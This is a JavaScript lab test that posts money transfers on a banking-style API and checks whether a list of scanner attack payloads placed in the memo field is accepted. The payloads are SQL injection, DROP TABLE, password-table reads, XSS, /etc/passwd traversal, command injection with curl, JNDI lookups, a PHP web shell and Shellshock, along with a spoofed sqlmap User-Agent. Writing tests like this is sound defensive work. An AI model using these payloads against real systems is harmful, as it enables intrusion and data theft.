// OWASP Core Rule Set 4: what any scanner sends. Nothing of it is executed by the platform's own code; gained is that it gets
// inside, into alice's statement of account, and so to whatever shows her that some day. Carol's account was taken over.
import { key } from '../lib/forge.js';

export function benign(lab) {
  const res = lab.http({ method: 'POST', path: '/v1/transfers', token: lab.tokens.carol, headers: [key()], body: { to: 'alice', amount: 1, memo: 'For the minutes of Monday; thank you!' } });
  lab.judge(res.status === 201, `status ${res.status}`);
}

const payloads = ["' OR '1'='1' -- ", "1; DROP TABLE transfers; --", "' UNION SELECT username, password FROM pg_shadow --", '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd', '; cat /etc/passwd', '$(curl http://127.0.0.1:8500/)', '${jndi:ldap://127.0.0.1/a}', '<?php system($_GET["c"]); ?>', '() { :;}; /bin/bash -c "id"', "'; EXEC xp_cmdshell('dir'); --"];

export function attack(lab) {
  const seen = payloads.map((memo) => lab.http({ method: 'POST', path: '/v1/transfers', token: lab.tokens.carol, headers: [key()], body: { to: 'alice', amount: 1, memo } }));
  seen.push(lab.http({ path: '/v1/account', token: lab.tokens.alice, headers: [['User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)']] }));
  const won = seen.map((r, n) => [r.status, n]).filter(([status]) => status < 300).map(([, n]) => payloads[n] || 'a scanner');
  lab.judge(won.length > 0, won.length ? `got in: ${won}` : `status ${seen.map((r) => r.status)}`);
}
